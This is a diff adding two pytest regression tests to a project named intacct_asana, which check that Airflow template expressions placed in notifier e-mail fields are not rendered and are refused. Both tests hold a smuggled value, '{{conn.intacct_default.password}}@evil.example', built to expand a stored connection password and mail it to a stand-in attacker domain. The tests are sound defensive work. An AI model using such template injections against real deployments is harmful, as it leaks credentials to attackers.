@@ -101,6 +101,27 @@ def test_a_named_address_gets_a_mail_with_the_error_as_text(mailbox: list[bytes]
     assert "http://airflow/log" in body.get_content()
 
 
+def test_what_a_flow_file_says_is_never_rendered(mailbox: list[bytes], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Not even an address that got past the check of the file."""
+    from intacct_asana.flow.model import Notifier
+    from intacct_asana.notifications import alerts
+
+    monkeypatch.setenv("AIRFLOW_CONN_INTACCT_DEFAULT", json.dumps({"conn_type": "intacct", "password": "hunter2"}))
+    word = "{{conn.intacct_default.password}}@evil.example"
+    alert = Notifier.model_construct(kind="smtp", connection="smtp_default", to=(word,), from_email=word)
+    render(alerts._notifier(alert))
+    [mail] = mailbox
+    assert b"hunter2" not in mail
+    assert b"conn.intacct_default.password" in mail
+
+
+def test_an_address_with_braces_is_refused_with_its_line(tmp_path: Path) -> None:
+    line = "    - {kind: smtp, connection: smtp_default, to: ['{{conn.x.password}}@evil.example'], from_email: a@b.example}\n"
+    with pytest.raises(Misconfigured) as refused:
+        flow_with(line, tmp_path)
+    assert "which is no e-mail address (write it as name@example.com)" in str(refused.value)
+
+
 def test_without_a_notifier_the_log_says_what_would_have_been_sent(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     from intacct_asana.notifications.alerts import LogNotifier, notifiers_of
 
